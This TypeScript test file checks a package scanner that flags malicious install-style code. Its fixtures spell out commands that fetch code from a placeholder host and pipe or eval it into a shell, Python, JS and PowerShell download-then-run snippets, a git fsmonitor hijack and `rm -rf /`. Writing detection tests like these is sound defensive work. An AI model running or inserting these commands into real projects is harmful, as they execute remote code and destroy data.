import { describe, expect, it } from 'vitest'
import { scanPackage } from './scan-package.ts'

const host = 'https://drop.invalid-host.net'
const rules = (path: string, text: string) =>
  scanPackage([{ path, bytes: new TextEncoder().encode(text), executable: false }])
    .findings.filter(({ severity }) => severity === 'high' || severity === 'critical')
    .map(({ rule }) => rule)

describe('a download that a shell runs from a variable', () => {
  it.each([
    `p=\`wget -qO- ${host}/i\`\nbash -c "$p"`,
    `export P="$(curl -s ${host}/i)"\neval "$P"`,
    `P=$(curl -s ${host}/i)\necho "$P" | sh`,
    `P=$(curl -s ${host}/i)\nbash <<< "$P"`,
    `eval "$(curl -s ${host}/env)"`,
    `source <(curl -s ${host}/env)`,
  ])('%j', (text) => {
    expect(rules('a.sh', text)).toContain('run.pipe-to-shell')
  })

  it.each([
    `V=$(curl -s ${host}/version)\necho "$V" | head -1`,
    `V=$(curl -s ${host}/version)\nbash build.sh "$V"`,
    'P=$(curl -fsSL https://sh.rustup.rs)\nsh -c "$P"',
  ])('not one that is read or comes from a known installer: %j', (text) => {
    expect(rules('a.sh', text)).not.toContain('run.pipe-to-shell')
  })

  it('a known installer is compared as a whole host here too', () => {
    const text = 'P=$(curl -fsSL https://sh.rustup.rs.drop-host.net)\nsh -c "$P"'
    expect(rules('a.sh', text)).toContain('run.pipe-to-shell')
  })
})

describe('a script that saves a download and runs it', () => {
  it.each([
    [
      'a.py',
      `import urllib.request, subprocess\nurllib.request.urlretrieve("${host}/x", "/tmp/x.py")\nsubprocess.run(["python3", "/tmp/x.py"])`,
    ],
    [
      'a.py',
      `import requests, os\nopen("/tmp/x.sh", "wb").write(requests.get("${host}/x").content)\nos.system("sh /tmp/x.sh")`,
    ],
    [
      'a.mjs',
      `const r = await fetch("${host}/x")\nfs.writeFileSync('/tmp/x.sh', await r.text())\nexecSync('bash /tmp/x.sh')`,
    ],
  ])('%s: %j', (path, text) => {
    expect(rules(path, text)).toContain('supply.download-then-run')
  })

  it.each([
    [
      'a.py',
      `urllib.request.urlretrieve("${host}/x", "data.csv")\nsubprocess.run(["wc", "data.csv"])`,
    ],
    [
      'a.py',
      `urllib.request.urlretrieve("${host}/x", "model.py")\nsubprocess.run(["python3", "other.py"])`,
    ],
  ])('not data, nor another file: %s: %j', (path, text) => {
    expect(rules(path, text)).toEqual([])
  })

  it('a file of PowerShell', () => {
    const text = `Invoke-WebRequest -Uri ${host}/a.ps1 -OutFile a.ps1\npowershell -ExecutionPolicy Bypass -File a.ps1`
    expect(rules('a.ps1', text)).toContain('supply.download-then-run')
  })
})

describe('a command that a script puts together', () => {
  it.each([
    [
      'a.py',
      `subprocess.Popen("curl -s ${host}/i" + " | " + "sh", shell=True)`,
      'run.pipe-to-shell',
    ],
    [
      'a.py',
      "subprocess.run(['git','config','--global','core.fsmonitor','/tmp/m.sh'])",
      'run.git-settings',
    ],
    ['a.js', 'spawnSync("rm", ["-rf", "/"])', 'run.delete'],
  ])('%s: %j', (path, text, rule) => {
    expect(rules(path, text)).toContain(rule)
  })

  it('a list of words on a line that starts nothing is no command', () => {
    const text = "import subprocess\nwords = ['rm', '-rf', '/']"
    expect(rules('a.py', text)).toEqual([])
  })
})

describe('a download that the next step evaluates', () => {
  it.each([
    `fetch('${host}/i').then((r) => r.text()).then((t) => Function(t)())`,
    `const get = async () => (await fetch('${host}/i')).text()\nget().then((code) => eval(code))`,
  ])('%j', (text) => {
    expect(rules('a.js', text)).toContain('run.value-to-interpreter')
  })
})
